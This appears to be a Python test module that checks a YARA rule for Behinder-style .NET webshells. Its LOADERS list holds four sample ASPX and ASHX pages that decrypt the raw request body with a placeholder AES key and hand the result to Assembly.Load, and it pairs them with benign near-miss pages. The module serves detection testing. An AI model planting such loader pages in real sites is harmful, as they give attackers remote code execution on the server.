@@ -1,0 +1,118 @@
+"""Rules from the twenty-first unseen collection: shells sampled by the file names attackers give them
+(issue 14, helper X21).
+
+The own rules found all 38 shells of the collection on first sight (BENCHMARKS.md, "Unseen shells,
+twenty-first collection: sampled by file name"), 14 of them through the behaviour analysis alone. The most
+common of those shapes gets a YARA rule of its own, so that a page of that shape is still named when the
+behaviour analysis does not finish: the Behinder-style loader that reads the raw request body, decrypts it
+with an AES decryptor and hands the result to ``Assembly.Load`` in one statement (three shells of the
+collection; the base64 loader rule wants ``FromBase64String``, which this shape never uses). The rule is
+``EXT_WEBSHELL_Assembly_Load_Decrypted_Request`` in ``data/rules/reflected_loaders.yar``; the pages below
+reproduce the shape and the ordinary pages closest to it. All pages were written for these tests: nothing
+is compiled or run, keys and class names are placeholders, and none is a copy of a real shell.
+"""
+
+from __future__ import annotations
+
+from .rule_tables import Page, RuleCase, rule_tables
+
+_RULE = "EXT_WEBSHELL_Assembly_Load_Decrypted_Request"
+
+LOADERS: list[Page] = [
+    (
+        "cs-raw-body-aes-load",
+        ".aspx",
+        '<%@ Page Language="C#" %><%@ Import Namespace="System.Reflection" %>\n<script runat="server">\n'
+        "void Page_Load(object s, EventArgs e) {\n"
+        '  byte[] key = System.Text.Encoding.UTF8.GetBytes("0123456789abcdef");\n'
+        "  byte[] body = Request.BinaryRead(Request.ContentLength);\n"
+        "  Assembly.Load(System.Security.Cryptography.Aes.Create().CreateDecryptor(key, key)"
+        '.TransformFinalBlock(body, 0, body.Length)).CreateInstance("Probe");\n}\n</script>',
+    ),
+    (
+        "vb-input-stream-rijndael-load",
+        ".aspx",
+        '<%@ Page Language="VB" %>\n<script runat="server">\n'
+        "Sub Page_Load(s As Object, e As EventArgs)\n"
+        '  Dim k As Byte() = System.Text.Encoding.ASCII.GetBytes("placeholderkey16")\n'
+        "  Dim ms As New System.IO.MemoryStream()\n  Request.InputStream.CopyTo(ms)\n"
+        "  Dim c As Byte() = ms.ToArray()\n"
+        "  System.Reflection.Assembly.Load(New System.Security.Cryptography.RijndaelManaged()"
+        '.CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("Probe")\n'
+        "End Sub\n</script>",
+    ),
+    (
+        "cs-session-key-comment-between",
+        ".aspx",
+        '<%@ Page Language="C#" %><%@Import Namespace="System.Reflection"%><%Session.Add("k","placeholder0000");'
+        ' /* key note */byte[] k = Encoding.Default.GetBytes(Session[0] + ""),'
+        "c = Request.BinaryRead(Request.ContentLength);"
+        "Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k)"
+        '.TransformFinalBlock(c, 0, c.Length)).CreateInstance("Probe").Equals(this);%>',
+    ),
+    (
+        "cs-form-bytes-in-the-statement",
+        ".ashx",
+        '<%@ WebHandler Language="C#" Class="H" %>\nusing System.Web;\n'
+        "public class H : IHttpHandler {\n  public bool IsReusable { get { return false; } }\n"
+        "  public void ProcessRequest(HttpContext ctx) {\n    var k = new byte[16];\n"
+        "    System.Reflection.Assembly.Load(System.Security.Cryptography.Aes.Create().CreateDecryptor(k, k)"
+        '.TransformFinalBlock(System.Text.Encoding.Default.GetBytes(ctx.Request.Form["d"]), 0, 16));\n  }\n}',
+    ),
+]
+
+LOADERS_ORDINARY: list[Page] = [
+    (
+        "cookie-aes-decrypt-shown",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "void Page_Load(object s, EventArgs e) {\n"
+        '  byte[] k = new byte[16]; byte[] c = Convert.FromBase64String(Request.Cookies["pref"].Value);\n'
+        "  var aes = System.Security.Cryptography.Aes.Create();\n"
+        "  Pref.Text = System.Text.Encoding.UTF8.GetString(aes.CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length));\n"
+        '}\n</script>\n<asp:Label id="Pref" runat="server" />',
+    ),
+    (
+        "plugin-loaded-from-bin-setting-decrypted",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "void Page_Load(object s, EventArgs e) {\n"
+        '  string name = Request.QueryString["plugin"] ?? "report";\n'
+        '  byte[] k = new byte[16]; byte[] cs = Convert.FromBase64String(ConfigurationManager.AppSettings["cs"]);\n'
+        "  string conn = System.Text.Encoding.UTF8.GetString("
+        "System.Security.Cryptography.Aes.Create().CreateDecryptor(k, k).TransformFinalBlock(cs, 0, cs.Length));\n"
+        '  var asm = System.Reflection.Assembly.Load(System.IO.File.ReadAllBytes(Server.MapPath("~/plugins/" + name + ".dll")));\n'
+        '  Out.Text = asm.FullName + " " + conn.Length;\n}\n</script>\n<asp:Label id="Out" runat="server" />',
+    ),
+    (
+        "embedded-assembly-decrypted-from-resource",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "void Page_Load(object s, EventArgs e) {\n"
+        '  int page = int.Parse(Request.QueryString["page"] ?? "1");\n'
+        '  var st = GetType().Assembly.GetManifestResourceStream("Reports.bin");\n'
+        "  var res = new byte[st.Length]; st.Read(res, 0, res.Length);\n"
+        "  byte[] k = new byte[16], iv = new byte[16];\n"
+        "  var asm = System.Reflection.Assembly.Load(System.Security.Cryptography.Aes.Create()"
+        ".CreateDecryptor(k, iv).TransformFinalBlock(res, 0, res.Length));\n"
+        '  Out.Text = asm.GetName().Name + " page " + page;\n}\n</script>\n<asp:Label id="Out" runat="server" />',
+    ),
+    (
+        "encrypted-upload-decrypted-and-saved",
+        ".ashx",
+        '<%@ WebHandler Language="C#" Class="Up" %>\nusing System.Web;\n'
+        "public class Up : IHttpHandler {\n  public bool IsReusable { get { return false; } }\n"
+        "  public void ProcessRequest(HttpContext ctx) {\n    var ms = new System.IO.MemoryStream();\n"
+        "    ctx.Request.InputStream.CopyTo(ms); byte[] c = ms.ToArray(); byte[] k = new byte[16];\n"
+        "    byte[] plain = System.Security.Cryptography.Aes.Create().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length);\n"
+        '    System.IO.File.WriteAllBytes(ctx.Server.MapPath("~/App_Data/in.bin"), plain);\n  }\n}',
+    ),
+]
+
+CASES: list[RuleCase] = [(_RULE, LOADERS, LOADERS_ORDINARY)]
+
+(
+    test_loader_is_found,
+    test_ordinary_page_is_not_flagged,
+    test_rule_needs_a_server_page,
+) = rule_tables(CASES)
